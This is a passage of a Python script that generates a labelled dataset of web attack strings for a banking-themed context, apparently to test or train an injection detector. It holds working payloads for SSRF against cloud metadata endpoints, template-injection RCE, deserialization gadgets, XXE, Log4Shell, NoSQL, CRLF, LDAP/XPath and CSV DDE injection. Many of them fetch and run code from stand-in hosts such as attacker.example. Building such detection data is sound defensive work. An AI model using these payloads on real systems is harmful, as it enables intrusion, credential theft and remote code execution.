    ("fetchurl-metadata_gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("fetchurl-metadata_azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("fetchurl-metadata_alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("fetchurl-metadata_do", "http://169.254.169.254/metadata/v1.json"),
    ("fetchurl-localhost_actuator", "http://127.0.0.1:8080/actuator/env"),
    ("fetchurl-localhost", "http://localhost/server-status"),
    ("fetchurl-localhost+ipdecimal", "http://2130706433/admin"),
    ("fetchurl-consul+iphex", "http://0x7f000001:8500/v1/kv/?recurse"),
    ("fetchurl-elastic+ipoctal", "http://0177.0.0.1:9200/_cat/indices"),
    ("fetchurl-redis+ipshort", "http://127.1:6379/"),
    ("fetchurl-couchdb+ipv6", "http://[::1]:5984/_all_dbs"),
    ("fetchurl-metadata_aws+ipv6_mapped", "http://[::ffff:169.254.169.254]/latest/user-data"),
    ("fetchurl-docker_api", "http://0.0.0.0:2375/containers/json"),
    ("fetchurl-userinfo_confusion", "https://statements.bank.example@169.254.169.254/latest/meta-data/"),
    ("fetchurl-fragment_confusion", "http://169.254.169.254#@statements.bank.example/"),
    ("fetchurl-backslash_confusion", "http://statements.bank.example\\@127.0.0.1:8080/admin"),
    ("fetchurl-dns_to_internal", "http://127.0.0.1.rebind.attacker.example/internal/health"),
    ("fetchurl-open_redirect", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("fetchurl-gopher_redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fc%7Csh%5Cn%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2F%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("fetchurl-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40bank.example%3E%0D%0ARCPT%20TO%3A%3Ctreasury%40bank.example%3E%0D%0ADATA%0D%0ASubject%3A%20Urgent%20payment%0D%0A%0D%0APlease%20release%20batch%204471%0D%0A.%0D%0AQUIT%0D%0A"),
    ("fetchurl-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("plain-file_passwd", "file:///etc/passwd"),
    ("fetchurl-file_win", "file:///C:/Windows/win.ini"),
    ("fetchurl-ftp_internal", "ftp://10.0.12.5/outbound/"),
    ("fetchurl-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("fetchurl-internal_host", "http://jenkins.corp.internal:8080/script"),
    ("fetchurl-rfc1918", "http://10.0.0.5/admin/users"),
    ("fetchurl-rfc1918", "http://192.168.1.1/cgi-bin/luci"),
    ("fetchurl-rfc1918", "http://172.16.4.20:8161/admin/"),
    ("fetchurl-localhost+enclosed_alnum", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:8080/"),
    ("fetchurl-localhost+urlenc_host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/manage"),
    ("fetchurl-localhost+ipzeropad", "http://127.000.000.001/"),
    ("fetchurl-metadata_aws+ipdecimal", "http://2852039166/latest/meta-data/"),
    ("fetchurl-ldap", "ldap://127.0.0.1:389/dc=bank,dc=example??sub?(objectClass=*)"),
    ("webhook-internal_api", "https://10.20.0.14:9443/internal/payments/approve?id=4471"),
    ("webhook-metadata_aws", "Callback URL: http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-default-role"),
    ("logourl-kubectl_proxy", "http://localhost:8001/api/v1/namespaces/default/secrets"),
    ("pdfhtml-iframe_metadata", "Dear customer,<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=800 height=600></iframe>"),
    ("pdfhtml-iframe_file", "Statement notes <iframe src=\"file:///etc/passwd\" width=900 height=900></iframe>"),
    ("svgrender-image_href", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/\" width=\"400\" height=\"400\"/></svg>"),
    ("fetchurl-localhost+idna_dot", "http://127。0。0。1/admin"),
    ("fetchurl-zero", "http://0/"),
    ("fetchurl-localhost+ipv6_mapped_hex", "http://[0:0:0:0:0:ffff:7f00:1]:8080/"),
    ("fetchurl-port_probe", "http://10.0.0.1:22/"),
    ("fetchurl-metadata_aws+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://127.0.0.1/"),
    ("plain-file", "file:///etc/hosts"),
    ("plain-gopher", "gopher://127.0.0.1:11211/_stats%0D%0A"),
]

SSRF_IPS = [("169.254.169.254", "/latest/meta-data/"), ("127.0.0.1", ":8080/admin"),
            ("10.0.0.5", "/internal/"), ("192.168.0.10", ":9200/_search")]


def alt_ip(rng, ip):
    parts = [int(x) for x in ip.split(".")]
    n = (parts[0] << 24) | (parts[1] << 16) | (parts[2] << 8) | parts[3]
    k = rng.randrange(4)
    if k == 0:
        return "ipdecimal", str(n)
    if k == 1:
        return "iphex", f"0x{n:08x}"
    if k == 2:
        return "ipoctal", ".".join(f"0{p:o}" for p in parts)
    return "iphex_dotted", ".".join(f"0x{p:02x}" for p in parts)


def t_ssrf(rng):
    ip, path = rng.choice(SSRF_IPS)
    enc, host = alt_ip(rng, ip)
    field = rng.choice(["", "Webhook: ", "Statement import URL: ", "Logo URL: "])
    return f"fetchurl-internal+{enc}", f"{field}http://{host}{path}"


# --------------------------------------------------------------------------
# code: SSTI, expression languages, deserialization, XXE, Log4Shell,
#       prototype pollution, CSV formula, SSI/ESI, eval
# --------------------------------------------------------------------------

CODE = [
    ("jinja-rce", "Dear {{ cycler.__init__.__globals__.os.popen('id').read() }},"),
    ("jinja-config_leak", "Ref: {{ config.items() }}"),
    ("jinja-rce", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("jinja-attr_bypass+hexesc", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("twig-rce", "{{['id']|filter('system')}}"),
    ("twig-rce", "Sehr geehrte/r {{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("freemarker-rce", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker-rce", "Dear ${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")},"),
    ("velocity-rce", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("thymeleaf-spel_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/t')}__::.x"),
    ("spel-rce", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-rce", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example/s|sh'})}"),
    ("el-rce", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ognl-rce", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("erb-rce", "<%= `id` %>"),
    ("erb-file_read", "Dear customer <%= File.read('/etc/passwd') %>"),
    ("smarty-rce", "{system('id')}"),
    ("mako-rce", "${__import__('os').popen('id').read()}"),
    ("mako-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("pug-rce", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-rce", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("nunjucks-rce", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("razor-rce", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("tornado-rce", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("esi-include", "INV 2024/118 <esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("pyeval-import", "__import__('os').system('curl attacker.example/e|sh')"),
    ("pyeval-amount", "1240.50+len(__import__('subprocess').getoutput('id'))"),
    ("jseval-child_process", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("jseval-amount", "1240.50;process.mainModule.require('child_process').execSync('id')"),
    ("phpeval-breakout", "';system('id');//"),
    ("groovy-execute", "\"curl attacker.example/g\".execute()"),
    ("pickle-os_system", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("phpser-object_injection", "O:13:\"StatementFile\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("phar-deser", "phar:///var/www/uploads/receipt_4471.jpg/x"),
    ("yaml-python_apply", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("yaml-snakeyaml_classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("jsondotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("jackson-jndi_gadget", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.5:1099/x\",\"autoCommit\":true}"),
    ("nodeser-iife", "{\"note\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("xmldecoder-processbuilder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<Document><CstmrCdtTrfInitn><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></CstmrCdtTrfInitn></Document>"),
    ("xxe-oob_param", "<?xml version=\"1.0\"?><!DOCTYPE Document [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><Document/>"),
    ("xxe-ssrf", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><RmtInf><Ustrd>&m;</Ustrd></RmtInf>"),
    ("xinclude-file", "<Ustrd xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></Ustrd>"),
    ("xxe-entity_expansion", "<!DOCTYPE Document [<!ENTITY a \"INV-INV-INV-INV-\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><Document>&f;</Document>"),
    ("xxe-php_filter", "<!DOCTYPE x [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><Cdtr><Nm>&s;</Nm></Cdtr>"),
    ("xslt-xalan_exec", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:value-of select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:template></xsl:stylesheet>"),
    ("log4j-jndi", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4j-jndi", "INV 2024/118 ${jndi:ldap://log.attacker.example/inv}"),
    ("log4j-jndi_lower_lookup", "SVWZ+RE 4471 ${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://203.0.113.21:1099/o}"),
    ("log4j-jndi_default_lookup", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.4/z}"),
    ("log4j-env_exfil", "Kd-Nr. 44817 ${jndi:ldap://${env:USER}.${hostName}.x.attacker.example/a}"),
    ("plain-log4j_ldaps", "${jndi:ldaps://attacker.example/s}"),
    ("log4j-jndi+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("log4j-jndi_date_lookup", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/d}"),
    ("pollute-proto_json", "{\"note\":\"ok\",\"__proto__\":{\"isAdmin\":true}}"),
    ("pollute-constructor_json", "{\"constructor\":{\"prototype\":{\"approvalLimit\":99999999}}}"),
    ("pollute-querystring", "filter[__proto__][role]=admin"),
    ("pollute-path", "__proto__.canApprove=true"),
    ("pollute-ejs_gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click to view statement\")"),
    ("csv-dde", "=cmd|' /C powershell -nop -c iwr http://attacker.example/c.ps1|iex'!A0"),
    ("csv-dde_plus", "+cmd|'/C mshta http://attacker.example/m.hta'!A1"),
    ("csv-dde_at", "@SUM(1+1)*cmd|' /C whoami'!A0"),
    ("csv-dde_minus", "-1+1+cmd|' /C curl attacker.example/z'!A0"),
    ("csv-webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&ENCODEURL(C2))"),
    ("csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/g?v=\",B3),\"//a\")"),
    ("plain-log4j", "${jndi:ldap://203.0.113.30/p}"),
    ("plain-ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("plain-ssi", "<!--#exec cmd=\"id\"-->"),
    ("plain-csv", "=1+1+cmd|' /C id'!A1"),
]

CODE_PREFIX = ["INV 2024/{n}", ":70:/INV/{n}", "Dear customer,", "GL {n} description:",
               "SVWZ+RE {n}", "Payee: Nowak Sp. z o.o.", "Case DSP-2024-{n}"]
CODE_PAYLOADS = [
    ("log4j-jndi", "${{jndi:ldap://{h}/{p}}}"),
    ("log4j-jndi", "${{jndi:rmi://{h}:1099/{p}}}"),
    ("jinja-rce", "{{{{ cycler.__init__.__globals__.os.popen('{c}').read() }}}}"),
    ("freemarker-rce", "${{\"freemarker.template.utility.Execute\"?new()(\"{c}\")}}"),
    ("spel-rce", "#{{T(java.lang.Runtime).getRuntime().exec('{c}')}}"),
]
CODE_HOSTS = ["attacker.example", "x.attacker.example", "203.0.113.30", "198.51.100.9"]
CODE_CMDS = ["id", "whoami", "curl attacker.example/k|sh", "cat /etc/passwd"]


def t_code(rng):
    pre = rng.choice(CODE_PREFIX).format(n=rng.randrange(100, 9999))
    cls, pay = rng.choice(CODE_PAYLOADS)
    pay = pay.format(h=rng.choice(CODE_HOSTS), p=rng.choice(["a", "inv", "x", "o"]),
                     c=rng.choice(CODE_CMDS))
    if rng.random() < 0.1:
        return cls + "+urlenc", urllib.parse.quote(pre + " " + pay, safe="")
    return cls, pre + " " + pay


# --------------------------------------------------------------------------
# nosqli
# --------------------------------------------------------------------------

NOSQLI = [
    ("mongojson-ne", "{\"iban\": \"GB29QXBK60161331926819\", \"pin\": {\"$ne\": null}}"),
    ("mongojson-gt", "{\"login\": \"teller04\", \"password\": {\"$gt\": \"\"}}"),
    ("mongojson-regex", "{\"login\": {\"$regex\": \"^ops_\"}, \"password\": {\"$regex\": \"^a\"}}"),
    ("plain-where_sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("mongojson-where_exfil", "{\"$where\": \"this.role == 'admin' && this.password.match(/^a/)\"}"),
    ("mongoqs-ne", "login=ops_admin&password[$ne]=x"),
    ("mongoqs-regex_gt", "iban[$regex]=^DE&amount[$gt]=10000"),
    ("mongoqs-ne_owner", "customerId[$ne]=4471&status=OPEN"),
    ("mongojs-or_breakout", "x', $or: [ {}, { 'a': 'a"),
    ("mongowhere-dos", "4471'; while(true){}; var x='"),
    ("mongowhere-boolean", "' || '1'=='1"),
    ("mongoagg-lookup", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("mongojson-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("mongojson-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(5000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("mongojson-nin_exists", "{\"username\": {\"$nin\": [\"guest\"]}, \"password\": {\"$exists\": true}}"),
    ("mongojson-ne+uesc", "{\"pin\": {\"\\u0024ne\": \"0000\"}}"),
    ("mongoqs-ne+urlenc", "password%5B%24ne%5D=1"),
    ("couchjson-selector_gt", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"iban\", \"pin_offset\"]}"),
    ("esquerystring-exists", "INV* OR _exists_:pin_offset"),
    ("mongojson-regex_redos", "{\"reference\": {\"$regex\": \"^(a+)+$\"}}"),
    ("mongojson-ne", "{\"endToEndId\": \"E2E-20240611-0042\", \"customerId\": {\"$ne\": 0}}"),
    ("mongowhere-exfil", "' || this.pin_offset.charAt(0) == '4' || '"),
    ("plain-ne", "{\"$ne\": null}"),
    ("plain-gt", "password[$gt]="),
    ("plain-where", "{\"$where\": \"1 == 1\"}"),
]

NOSQL_FIELDS = ["iban", "pin", "password", "customerId", "reference", "login"]
NOSQL_OPS = [("ne", "null", "x"), ("gt", "\"\"", ""), ("regex", "\".*\"", ".*"),
             ("exists", "true", "true")]


def t_nosqli(rng):
    f = rng.choice(NOSQL_FIELDS)
    op, val, qsval = rng.choice(NOSQL_OPS)
    if rng.random() < 0.5:
        return f"mongoqs-{op}", f"login=teller{rng.randrange(1, 99):02d}&{f}[${op}]={qsval}"
    return f"mongojson-{op}", f"{{\"login\": \"teller{rng.randrange(1, 99):02d}\", \"{f}\": {{\"${op}\": {val}}}}}"


# --------------------------------------------------------------------------
# crlf: log, header and mail injection
# --------------------------------------------------------------------------

CRLF = [
    ("logline-forge", "Rent June\n2024-06-11 09:14:02,117 INFO [auth] login succeeded user=ops_admin ip=10.0.4.12"),
    ("logline-forge", "INV 2024/118\r\n[2024-06-11T09:15:00Z] AUDIT approve payment id=88123 by=supervisor01 result=OK"),
    ("logline-forge+urlenc", "PO%2055-A%0a2024-06-11%2009:14:02%20WARN%20recon%20break%20cleared%20by%20ops_admin"),
    ("header-setcookie", "statement_0611.pdf\r\nSet-Cookie: SESSION=attacker-fixed-0000; Path=/; HttpOnly"),
    ("header-response_split", "stmt.pdf\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-location+urlenc", "/statements%0d%0aLocation:%20https://attacker.example/login"),
    ("header-refresh", "/app/home\r\nRefresh: 0; url=https://attacker.example/"),
    ("header-setcookie+urlenc2", "en%250d%250aSet-Cookie:%2520lang=x;%2520Domain=.bank.example"),
    ("header-cors", "https://bank.example\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-setcookie+unicode_trunc", "stmt.pdf%E5%98%8D%E5%98%8ASet-Cookie:%20x=1"),
    ("mail-bcc", "Payment confirmation INV 2024/118\nBcc: all-customers-export@attacker.example"),
    ("mail-cc", "ops@bank.example\r\nCc: fraud-team-copy@attacker.example"),
    ("mail-body_inject", "Statement request\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Verify your account</a>"),
    ("mail-reply_to", "Your dispute DSP-2024-0312\nReply-To: disputes@attacker.example"),
    ("mail-from_spoof", "Kowalski\r\nFrom: Security Team <security@bank.example>\r\nSender: x@attacker.example"),
    ("smtp-rcpt", "customer@example.com>\r\nRCPT TO:<list@attacker.example"),
    ("logline-ansi_escape", "Rent June\u001b[1A\u001b[2K2024-06-11 10:00:00 INFO payment approved"),
    ("jsonlog-field_forge", "INV 77\",\"level\":\"INFO\",\"user\":\"ops_admin\",\"action\":\"limit_override"),
    ("logline-forge_cr", "SVWZ+RE 4471\r2024-06-11 10:00:00 INFO manual override approved by head_of_ops"),
    ("logline-forge_block", "Customer note: called twice\n\n=== SESSION 88123 ===\n10:02 user=cfo_delegate action=release_payment amount=250000.00 status=APPROVED"),
    ("header-content_disposition", "INV 2024-118.pdf\"\r\nContent-Type: text/html\r\nX-Note: \""),
    ("mail-bcc_encoded_word", "=?UTF-8?Q?Zahlung?=\r\nBcc: archiv@attacker.example"),
    ("syslog-forge", "Kd-Nr. 44817\n<13>Jun 11 09:14:02 corebank-app01 payments[2211]: transfer 88123 released by dual control"),
    ("header-xss_body", "fr%0d%0a%0d%0a<svg%20onload=alert(document.domain)>"),
    ("plain-crlf+urlenc", "%0d%0aSet-Cookie:%20crlf=injected"),
    ("plain-crlf", "\r\nX-Injected: 1"),
    ("plain-lf+urlenc", "%0aInjected-Header: yes"),
]

CRLF_PREFIX = ["INV 2024/{n}", "Rent June", "SVWZ+RE {n}", "Czynsz 06/2024",
               "Case DSP-2024-{n}", "statement_{n}.pdf"]
CRLF_LINES = [
    ("logline-forge", "2024-06-{d:02d} 0{h}:{m:02d}:11 INFO [payments] batch {n} approved by supervisor0{k}"),
    ("logline-forge", "2024-06-{d:02d} 0{h}:{m:02d}:47 INFO [auth] password reset for ops_admin ok"),
    ("header-setcookie", "Set-Cookie: SESSION=fixated{n}; Path=/"),
    ("mail-bcc", "Bcc: copy{n}@attacker.example"),
]


def t_crlf(rng):
    n = rng.randrange(100, 9999)
    pre = rng.choice(CRLF_PREFIX).format(n=n)
    cls, line = rng.choice(CRLF_LINES)
    line = line.format(d=rng.randrange(1, 29), h=rng.randrange(10), m=rng.randrange(60),
                       n=n, k=rng.randrange(1, 9))
    if rng.random() < 0.15:
        return cls + "+urlenc", urllib.parse.quote(pre, safe="") + "%0d%0a" + urllib.parse.quote(line, safe="")
    return cls, pre + rng.choice(["\r\n", "\n"]) + line


# --------------------------------------------------------------------------
# ldap-xpath
# --------------------------------------------------------------------------

LDAP_XPATH = [
    ("plain-ldap_or_always", "*)(|(objectClass=*)"),
    ("ldapfilter-auth_bypass", "ops_admin)(&)"),
    ("ldapfilter-auth_bypass", "*)(uid=*))(|(uid=*"),
    ("ldapfilter-attr_probe", "jnowak)(userPassword=a*"),
    ("ldapfilter-group_probe", "kowalski*)(memberOf=CN=Payment Approvers,OU=Groups,DC=bank,DC=example"),
    ("ldapfilter-blind", "*)(&(department=Treasury)(telephoneNumber=+44*"),
    ("ldapfilter-nullbyte+urlenc", "ops_admin)%00"),
    ("ldapfilter-wildcard_enum", "a*)(sAMAccountName=adm*"),
    ("xpath-boolean", "Nowak' or '1'='1"),
    ("xpath-union", "x'] | //user/password | //a['"),
    ("xpath-count_probe", "' or count(/*)=1 or 'a'='b"),
    ("xpath-blind_length", "' or string-length(//account[1]/pin)=4 or 'a'='b"),
    ("xpath-blind_substring", "4471' and substring(//user[login='ops_admin']/password,1,1)='a' and '1'='1"),
    ("xpath-name_probe", "x' or name(/*[1])='accounts' or 'x'='y"),
    ("xpath-doc_oob", "' or doc(concat('http://attacker.example/?',//user[1]/password)) or '"),
    ("xpath-numeric", "4471 or 1=1"),
    ("xpath-dq_boolean", "GB29\" or \"1\"=\"1"),
    ("plain-ldap", "*)(&"),
    ("plain-xpath", "' or ''='"),
]

LDAP_NAMES = ["jnowak", "kfischer", "teller04", "mgarcia", "plindqvist", "okafor"]
LDAP_ATTRS = ["userPassword", "description", "mail", "employeeNumber", "pager"]


def t_ldap(rng):
    if rng.random() < 0.5:
        return ("ldapfilter-attr_probe",
                f"{rng.choice(LDAP_NAMES)})({rng.choice(LDAP_ATTRS)}={rng.choice('abcdefghk')}*")
    return ("xpath-blind_substring",
            f"{rng.randrange(1000, 9999)}' and substring(//user[login='{rng.choice(LDAP_NAMES)}']"
            f"/password,{rng.randrange(1, 9)},1)='{rng.choice('abcdef0123')}' and '1'='1")


# --------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------

CATEGORIES = [
    ("sqli", SQLI, t_sqli),
    ("xss", XSS, t_xss),
    ("cmdi", CMDI, t_cmdi),
    ("traversal", TRAVERSAL, t_traversal),
    ("ssrf", SSRF, t_ssrf),
    ("code", CODE, t_code),
    ("nosqli", NOSQLI, t_nosqli),
    ("crlf", CRLF, t_crlf),
    ("ldap-xpath", LDAP_XPATH, t_ldap),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, template in CATEGORIES:
        target = TARGETS[cat]
        if len(literals) > target:
            raise SystemExit(f"{cat}: {len(literals)} literals > target {target}")
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        tries = 0
        while len(items) < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{cat}: template cannot produce enough values")
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit(f"bad value in {cat}: {v!r}")
            ctx, _, tech = cls.partition("-")
            if not ctx or not tech:
                raise SystemExit(f"bad class {cls!r}")
            rows.append((cat, cls, v))
        stats.append((cat, len(items), len(literals)))

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                   "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:12s} {n:4d}  literals {lit:3d} ({100 * lit / n:.0f}%)")
    n_plain = sum(1 for _, c, _ in rows if c.startswith("plain-"))
    n_enc = sum(1 for _, c, _ in rows if "+" in c)
    print(f"{'TOTAL':12s} {len(rows):4d}  literals {total_lit:3d} "
          f"({100 * total_lit / len(rows):.0f}%)  plain {n_plain}  encoded {n_enc}  -> {out.name}")


if __name__ == "__main__":
    main()
